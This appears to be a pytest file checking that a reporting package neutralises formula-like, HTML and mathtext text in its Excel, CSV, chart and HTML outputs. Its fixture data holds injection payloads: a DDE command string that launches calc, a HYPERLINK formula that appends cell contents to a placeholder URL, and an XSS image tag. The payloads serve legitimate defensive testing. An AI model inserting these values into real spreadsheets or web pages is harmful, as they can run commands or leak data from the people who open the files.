"""Text from the data is inert in every output: no formula cell in the workbook, formula-like CSV cells
neutralised (OWASP), no mathtext in charts, HTML escaped and without MathJax.

The hostile dataset is the demo city with every enterprise, project, task, problem, chain and chain-group
name replaced by formula payloads (and the home city's name too, so it reaches ``summary.csv``).
"""

from __future__ import annotations

import doctest
import io
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import pandas as pd  # noqa: E402
import pytest  # noqa: E402
from openpyxl import load_workbook  # noqa: E402

import gxanalysis.spreadsheet  # noqa: E402
from gxanalysis import config  # noqa: E402
from gxanalysis.errors import ReportError  # noqa: E402
from gxanalysis.reporting.workbook import write_workbook  # noqa: E402
from gxanalysis.spreadsheet import csv_safe, csv_safe_frame, is_formula_like  # noqa: E402

PAYLOADS = ['=HYPERLINK("http://x"&B5,"n")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-2+3", "$\\alpha$",
            "<img src=x onerror=alert(1)>", "$5$x$", "$\\frac{1}{0$"]
TEXT_PAYLOADS = [*PAYLOADS, "\tTAB", "\rCR"]  # tab and CR cannot come through validated input tables
HOME = '=HYPERLINK("http://x","金澜市")'


def _hostile_data(folder: Path) -> Path:
    shutil.copytree(config.demo_data_dir(), folder)

    def edit(table: str, columns: list[str]) -> None:
        f = pd.read_csv(folder / f"{table}.csv", dtype=str, keep_default_na=False, encoding="utf-8")
        for c in columns:
            f[c] = [PAYLOADS[i % len(PAYLOADS)] + (str(i) if i >= len(PAYLOADS) else "") for i in range(len(f))]
        f.to_csv(folder / f"{table}.csv", index=False, encoding="utf-8")

    edit("enterprises", ["name"])
    edit("chains", ["chain_name", "group_name"])
    edit("projects", ["name"])
    edit("supervision_tasks", ["task", "responsible_unit"])
    edit("problems", ["description"])
    for table in ("cities", "city_growth"):
        f = pd.read_csv(folder / f"{table}.csv", dtype=str, keep_default_na=False, encoding="utf-8")
        f["city"] = f["city"].replace("金澜市", HOME)
        f.to_csv(folder / f"{table}.csv", index=False, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory) -> Path:
    return _hostile_data(tmp_path_factory.mktemp("hostile") / "data")


def _formula_cells(xlsx: Path) -> list[tuple[str, str, object]]:
    """Every formula cell, by openpyxl's reading and by the sheet XML itself (an ``<f>`` element)."""
    wb = load_workbook(xlsx)
    cells = [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
             if c.data_type == "f"]
    with zipfile.ZipFile(xlsx) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", z.read(name)):
                cells.append((name, "<f>", "formula element in the sheet XML"))
    return cells


# -- the rule ---------------------------------------------------------------------------------------------

def test_the_spreadsheet_module_examples_hold():
    assert doctest.testmod(gxanalysis.spreadsheet).failed == 0


@pytest.mark.parametrize("text", TEXT_PAYLOADS[:5] + ["\tTAB", "\rCR", "-x", "+5", "@"])
def test_formula_like_text_is_neutralised_in_csv(text):
    assert is_formula_like(text)
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["-2.3", "-1,200.5", "-4.5%", "-1e-3", "--", "-", "金澜市", "$\\alpha$", "3-2",
                                  ""])
def test_numbers_placeholders_and_plain_text_are_left_alone(text):
    assert not is_formula_like(text)
    assert csv_safe(text) == text


def test_csv_frame_neutralises_text_cells_and_headers_but_not_numbers():
    frame = pd.DataFrame({"=name": ["=1+1", "金澜市", "-2.3"], "value": [-1.5, 2.0, None]})
    safe = csv_safe_frame(frame)
    assert list(safe.columns) == ["'=name", "value"]
    assert safe["'=name"].tolist() == ["'=1+1", "金澜市", "-2.3"]
    assert safe["value"].tolist()[:2] == [-1.5, 2.0]


def test_workbook_writes_every_text_as_a_string_cell_shown_as_typed(tmp_path):
    tables = [{"title": p + "表", "unit": p, "note": p, "columns": [p, "数值"],
               "data": [[q, -1.5] for q in TEXT_PAYLOADS]} for p in TEXT_PAYLOADS[:4]]
    path = write_workbook(tables, tmp_path / "t.xlsx", title="=1+1", period_label="+2",
                          cover_lines=[("@x", "=cmd|' /C calc'!A0")])
    assert _formula_cells(path) == []
    wb = load_workbook(path)
    ws = wb.worksheets[2]  # after the cover and the contents
    shown = [ws.cell(row=r, column=1).value for r in range(5, 5 + len(TEXT_PAYLOADS))]
    # the text itself is kept, with no visible apostrophe (a CR is stored as OOXML's escape _x000D_, which
    # Excel reads back as CR; openpyxl leaves the escape as it is)
    assert [v.replace("_x000D_", "\r") for v in shown] == TEXT_PAYLOADS
    assert all(ws.cell(row=r, column=1).quotePrefix for r in range(5, 5 + len(TEXT_PAYLOADS))
               if is_formula_like(ws.cell(row=r, column=1).value))
    assert ws.cell(row=5, column=2).value == -1.5 and ws.cell(row=5, column=2).data_type == "n"


def test_a_control_character_in_a_workbook_cell_is_a_located_error(tmp_path):
    tables = [{"title": "督办任务", "unit": "", "note": "", "columns": ["任务"], "data": [["正常"], ["坏\x07字"]]}]
    with pytest.raises(ReportError, match=r"sheet '督办任务', cell A6.*U\+0007"):
        write_workbook(tables, tmp_path / "t.xlsx", title="t", period_label="p", cover_lines=[])


def test_chart_labels_are_never_mathtext():
    from gxanalysis.reporting.charts import bar_chart, line_chart

    labels = ["$5$x$", "$\\alpha$", "a$b", "$\\frac{1}{0$"]  # with mathtext the first and last do not parse
    fig = bar_chart(pd.Series([1.0, -2.0, 3.0, 4.0], index=labels), title="$\\frac{$", horizontal=True)
    fig.savefig(io.BytesIO(), format="png")
    assert [t.get_text() for t in fig.axes[0].get_yticklabels()] == labels
    assert all(not t._parse_math for t in fig.axes[0].get_yticklabels())
    fig = line_chart(pd.DataFrame({"$x$$": [1.0, 2.0], "b": [2.0, 1.0]}, index=["2023-02", "2023-03"]),
                     title="$\\alpha$")
    fig.savefig(io.BytesIO(), format="png")


# -- the whole pack over hostile data ----------------------------------------------------------------------

@pytest.mark.slow
def test_workbook_of_every_section_over_hostile_data_has_no_formula_cell(hostile_dir, tmp_path):
    """Every section of the four reports, run over the hostile data and recorded as the runner does, then
    the pack's workbook writer over those tables: no formula cell on any sheet, and the payloads are there
    (as text) on the sheets that list names."""
    from gxanalysis.data.dataset import load_dataset
    from gxanalysis.reporting.context import ReportContext, ReportTable
    from gxanalysis.reporting.export import recorded_tables
    from gxanalysis.reporting.sections import SECTIONS

    data = load_dataset(hostile_dir)
    for report in SECTIONS:
        ctx = ReportContext(report, dataset=data, period="2023-04", output_dir=str(tmp_path))
        for section in SECTIONS[report]:
            item = section(ctx)
            if isinstance(item, ReportTable):
                ctx._record(item)
                if item.chart is not None:
                    item.chart.savefig(io.BytesIO(), format="png")  # mathtext would fail here on "$5$x$"
            elif hasattr(item, "savefig"):
                item.savefig(io.BytesIO(), format="png")
    tables = recorded_tables(tmp_path, list(SECTIONS))
    from gxanalysis.labels import SHEETS

    assert {t["name"] for t in tables} <= set(SHEETS), "every table has a short sheet name"
    assert all(t["formats"] and len(t["formats"]) == len(t["columns"]) for t in tables), "every column's format"
    path = write_workbook(tables, tmp_path / "wb.xlsx", title="t", period_label="p", cover_lines=[])
    assert _formula_cells(path) == []
    wb = load_workbook(path)
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    for payload in PAYLOADS:
        assert any(payload in t for t in texts), payload
    formula_like = [c for ws in wb for row in ws.iter_rows() for c in row
                    if isinstance(c.value, str) and is_formula_like(c.value)]
    assert len(formula_like) > 100 and all(c.quotePrefix and c.data_type == "s" for c in formula_like)


@pytest.mark.slow
def test_gx_report_over_hostile_data_publishes_inert_outputs(hostile_dir, tmp_path):
    """A real gx report (the chain report: names in tables and chart labels) over the hostile data."""
    out = tmp_path / "reports"
    run = subprocess.run([sys.executable, "-m", "gxanalysis.cli", "report", "--period", "2023-04", "--reports",
                          "chain_output", "--data", str(hostile_dir), "--out", str(out), "--no-progress"],
                         capture_output=True, text=True, encoding="utf-8", timeout=600)
    assert run.returncode == 0, run.stderr
    pack = out / "2023-04"
    xlsx = next(pack.glob("*.xlsx"))
    assert _formula_cells(xlsx) == []
    page = (pack / "chain_output.html").read_text(encoding="utf-8")
    assert "mathjax" not in page.lower(), "no MathJax: '$…$' in a name is text, not math"
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "$\\alpha$" in page and "=cmd|' /C calc'!A0" in page.replace("&#x27;", "'")
    summary = pd.read_csv(pack / "summary.csv", dtype=str, encoding="utf-8-sig", keep_default_na=False)
    home_rows = summary[summary["scope"].str.contains("金澜市")]
    assert len(home_rows) > 5 and (home_rows["scope"] == "'" + HOME).all()
    assert not any(v.startswith(("=", "+", "@")) for v in summary.to_numpy().ravel())
    negatives = summary.loc[summary["value"].str.startswith("-"), "value"]
    assert len(negatives) and all(re.fullmatch(r"-\d+(\.\d+)?|--", v) for v in negatives), "numbers untouched"


def test_gx_summary_csv_is_neutralised_too(hostile_dir, capsys):
    from gxanalysis.cli import main

    assert main(["summary", "--period", "2023-04", "--data", str(hostile_dir)]) == 0
    rows = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str, keep_default_na=False)
    assert ("'" + HOME) in set(rows["scope"]) and HOME not in set(rows["scope"])
